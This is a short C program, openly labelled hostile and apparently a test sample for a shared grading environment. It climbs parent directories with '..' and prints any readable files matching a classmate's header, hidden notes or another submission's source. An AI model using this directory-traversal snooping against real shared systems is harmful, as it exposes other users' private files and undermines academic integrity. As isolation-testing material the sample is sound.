/*
 * mmap_hello.c, HOSTILE: looks for a classmate's files by climbing out of
 * its working directory with "..", one level more each time, and prints
 * every file it can read there: the sources of a submission next to its
 * own, a classmate's header, a hidden note.
 */
#include <dirent.h>
#include <stdio.h>
#include <string.h>

static void show(const char *path)
{
	char buf[4096];
	FILE *f = fopen(path, "r");

	if (f == NULL)
		return;
	size_t n = fread(buf, 1, sizeof(buf) - 1, f);
	buf[n] = '\0';
	printf("== %s\n%s\n", path, buf);
	fclose(f);
}

int main(void)
{
	static const char *const wanted[] = {
		"secret.h", ".notes", "01-file-mapping/mmap_hello.c", NULL,
	};
	char up[256] = "";

	for (int depth = 1; depth <= 10; depth++) {
		strcat(up, "../");
		DIR *d = opendir(up);
		struct dirent *e;
		while (d != NULL && (e = readdir(d)) != NULL) {
			for (const char *const *w = wanted; *w != NULL; w++) {
				char path[1024];
				snprintf(path, sizeof(path), "%s%s/%s", up, e->d_name, *w);
				show(path);
			}
		}
		if (d != NULL)
			closedir(d);
	}
	return 0;
}
